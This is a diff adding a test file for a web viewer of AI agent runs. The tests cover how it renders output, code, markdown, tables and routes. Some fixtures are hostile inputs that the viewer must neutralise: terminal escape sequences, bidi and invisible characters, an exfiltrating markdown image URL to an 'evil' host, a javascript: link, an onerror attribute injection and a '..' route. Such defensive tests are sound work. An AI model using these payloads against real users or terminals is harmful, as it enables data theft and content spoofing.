@@ -1,0 +1,149 @@
+import { describe, expect, test } from 'vitest';
+import type { Display } from '../src/api/types';
+import { readReply } from '../src/run/reply';
+import { withEvidence } from '../src/run/evidence';
+import { difference } from '../src/text/difference';
+import { shownOf } from '../src/text/display';
+import { highlightPython } from '../src/text/highlight';
+import { readMarkdown } from '../src/text/markdown';
+import { notebookOf } from '../src/text/notebook';
+import { hiddenCount, oneLine, plainOutput, visible } from '../src/text/plain';
+import { tableOf } from '../src/text/records';
+import { readSeparated, readTable, sortedRows } from '../src/text/table';
+import { readRoute } from '../src/router.svelte';
+import { stepsOf } from './fixtures';
+
+describe('text of programs', () => {
+  test('E5: commands to a terminal are taken out', () => {
+    expect(plainOutput('\x1b]52;c;ZXZpbA==\x07\x1b[2J\x1b[1A\x9b31m\x1b]8;;http://evil\x07ok\x1b]8;;\x07')).toBe('ok');
+    expect(plainOutput('a\x1bPq#0\x1b\\b\x00\x08c')).toBe('abc');
+  });
+  test('what was written over is gone', () => {
+    expect(plainOutput('10%\r50%\r100%\nnext\r\n')).toBe('100%\nnext\n');
+  });
+  test('E6: bidirectional, invisible and tag characters are written out', () => {
+    const text = 'ac\u202ecess\u200b = "\u{e0041}"';
+    expect(hiddenCount(text)).toBe(3);
+    expect(visible(text).map((piece) => piece.text).join('')).toBe('ac\\u{202e}cess\\u{200b} = "\\u{e0041}"');
+    expect(visible(text).filter((piece) => piece.hidden)).toHaveLength(3);
+    expect(visible('plain 文字 é 🙂')).toEqual([{ text: 'plain 文字 é 🙂', hidden: false }]);
+    const shown = highlightPython('x = 1 # \u202e').flat();
+    expect(shown.some((piece) => piece.style === 'hidden-character' && piece.text === '\\u{202e}')).toBe(true);
+  });
+  test('a line for a list is one', () => {
+    expect(oneLine('a\n b\tc  d')).toBe('a b c d');
+    expect(oneLine('x'.repeat(300))).toHaveLength(160);
+  });
+});
+
+describe('code', () => {
+  test('comes whole out of the colours', () => {
+    const code = 'def f(x):\n    """doc"""\n    return x + 1.5  # why\n\nprint(f"{x}")\n';
+    const lines = highlightPython(code);
+    expect(lines.map((line) => line.map((piece) => piece.text).join('')).join('\n')).toBe(code);
+    expect(lines[0]?.find((piece) => piece.text === 'def')?.style).toBe('k');
+  });
+  test('difference of lines', () => {
+    expect(difference('a\nb\nc', 'a\nx\nc').map((line) => `${line.kind[0]}${line.text}`)).toEqual(['sa', 'rb', 'ax', 'sc']);
+    expect(difference('same', 'same')).toEqual([{ kind: 'same', text: 'same' }]);
+  });
+});
+
+describe('answers', () => {
+  test('E8: images and links stay text', () => {
+    const [block] = readMarkdown('![](https://evil/?d=secret) [x](javascript:alert(1)) <img src=x>');
+    expect(block).toEqual({ kind: 'paragraph', inside: [{ kind: 'text', text: '![](https://evil/?d=secret) [x](javascript:alert(1)) <img src=x>' }] });
+  });
+  test('lists, tables, code, emphasis', () => {
+    const kinds = readMarkdown('# T\n\nA **b** `c`\n\n- x\n- y\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nx\n```').map((block) => block.kind);
+    expect(kinds).toEqual(['heading', 'paragraph', 'list', 'table', 'code']);
+  });
+  test('a value has its evidence where it stands, and not inside of a longer one', () => {
+    const evidence = [{ value: '42', seen: { kind: 'output' as const, step: 1, line: '42', rounded: false } }, { value: '421.5' }];
+    const pieces = withEvidence('It is 42, not 421.5, 1421 or 0.42.', evidence);
+    expect(pieces.filter((piece) => piece.evidence).map((piece) => piece.text)).toEqual(['42', '421.5']);
+    expect(pieces.map((piece) => piece.text).join('')).toBe('It is 42, not 421.5, 1421 or 0.42.');
+  });
+});
+
+describe('replies, before the service says how they were understood', () => {
+  test('in each dialect', () => {
+    const code = { tool: 'python', arguments: { code: 'print(1)' } };
+    expect(readReply('fenced_code', 'So.\n```python\nprint(1)\n```\n', [])).toEqual({ thought: 'So.', calls: [code], answer: null });
+    expect(readReply('fenced_code', 'So.\nFINAL: 42', [])).toEqual({ thought: 'So.', calls: [], answer: '42' });
+    expect(readReply('json_action', '{"thought":"So.","action":"execute_code","code":"print(1)"}', [])).toEqual({ thought: 'So.', calls: [code], answer: null });
+    expect(readReply('tags', 'So.\n<execution-code>\nprint(1)\n</execution-code>', [])).toEqual({ thought: 'So.', calls: [code], answer: null });
+    expect(readReply('native_tools', 'So.', [{ name: 'python', arguments: '{"code":"print(1)"}' }])).toEqual({ thought: 'So.', calls: [code], answer: null });
+  });
+  test('as far as they have come', () => {
+    expect(readReply('native_tools', '', [{ name: 'python', arguments: '{"code": "a\\nb' }]).calls[0]?.arguments['code']).toBe('a\nb');
+    expect(readReply('fenced_code', 'So.\n```python\npri', []).calls[0]?.arguments['code']).toBe('pri');
+    expect(readReply('json_action', '{"thought": "Let me', []).thought).toBe('Let me');
+  });
+});
+
+describe('tables', () => {
+  const table = readTable(JSON.stringify({ columns: [{ name: 'n', dtype: 'int' }], index: [0, 1, 2], rows: [[10], [null], [9]], total_rows: 3 }));
+  test('are sorted by numbers, what is missing last', () => {
+    if (!table) throw new Error('no table');
+    expect(sortedRows(table, 0, false)).toEqual([2, 0, 1]);
+    expect(sortedRows(table, 0, true)).toEqual([0, 2, 1]);
+    expect(sortedRows(table, null, false)).toEqual([0, 1, 2]);
+  });
+  test('that are none are refused', () => {
+    for (const bad of ['', 'null', '{}', '{"columns": 3, "rows": []}', '[1]']) expect(readTable(bad)).toBeNull();
+    const odd = readTable('{"columns": [{"name": {"a": 1}}], "rows": [[{"b": 2}], 7]}');
+    expect(odd?.rows).toEqual([['[object Object]']]);
+  });
+  test('separated values, with quotes and other separators', () => {
+    expect(readSeparated('a;b\n1;"x;""y"""\n2;\n')).toMatchObject({ rows: [[1, 'x;"y"'], [2, null]], totalRows: 2 });
+    expect(readSeparated('a,b\r\n1,2\r\n')?.columns.map((column) => column.name)).toEqual(['a', 'b']);
+    expect(readSeparated('just text\nmore')).toBeNull();
+  });
+  test('records of an administrator', () => {
+    const made = tableOf({ tenants: [{ name: 'a', quota: { runs: 3 }, created_at: 1_700_000_000 }] });
+    expect(made?.columns.map((column) => column.name)).toEqual(['name', 'quota.runs', 'created_at']);
+    expect(made?.rows[0]).toEqual(['a', 3, '2023-11-14 22:13:20']);
+  });
+});
+
+describe('displays', () => {
+  const png = (width: number, height: number): string => {
+    const bytes = new Uint8Array(33);
+    new DataView(bytes.buffer).setUint32(16, width);
+    new DataView(bytes.buffer).setUint32(20, height);
+    return btoa(String.fromCharCode(...bytes));
+  };
+  const one = (mime: string, data: object): Display => ({ parts: [{ mime, ...data }] });
+  test('E9: an image of ten thousand million pixels is not shown', () => {
+    expect(shownOf(one('image/png', { base64: png(100, 100) }))?.kind).toBe('image');
+    expect(shownOf(one('image/png', { base64: png(100_000, 100_000) }))?.kind).toBe('too_large');
+    expect(shownOf(one('text/html', { text: 'x'.repeat(4_000_000) }))?.kind).toBe('too_large');
+  });
+  test('a real frame is a table, a real figure an image', () => {
+    const { steps } = stepsOf('region');
+    const kinds = steps.flatMap((step) => step.calls.flatMap((call) => (call.outcome?.displays ?? []).map((display) => shownOf(display)?.kind)));
+    expect(kinds).toEqual(['table', 'table', 'image']);
+  });
+  test('an address in an image can not leave it', () => {
+    const shown = shownOf(one('image/png', { base64: `${png(1, 1)}" onerror="x` }));
+    expect(shown?.kind === 'image' && /["' ]/.test(shown.source)).toBe(false);
+  });
+});
+
+test('a session becomes a notebook', () => {
+  const outcome = stepsOf('region').steps[0]?.calls[0]?.outcome ?? null;
+  const made = JSON.parse(notebookOf([{ code: 'x', outcome }, { code: null, outcome }])) as { cells: { outputs: unknown[]; execution_count: number }[]; nbformat: number };
+  expect(made.nbformat).toBe(4);
+  expect(made.cells).toHaveLength(1);
+  expect(made.cells[0]?.execution_count).toBe(1);
+  expect(made.cells[0]?.outputs).toHaveLength(2);
+});
+
+test('routes', () => {
+  expect(readRoute('')).toEqual({ page: 'ask' });
+  expect(readRoute('#/runs/a-b')).toEqual({ page: 'run', id: 'a-b', beside: null });
+  expect(readRoute('#/runs/a/beside/b')).toEqual({ page: 'run', id: 'a', beside: 'b' });
+  expect(readRoute('#/sessions/%2e%2e')).toEqual({ page: 'session', id: '..' });
+  expect(readRoute('#/nowhere')).toEqual({ page: 'unknown' });
+});
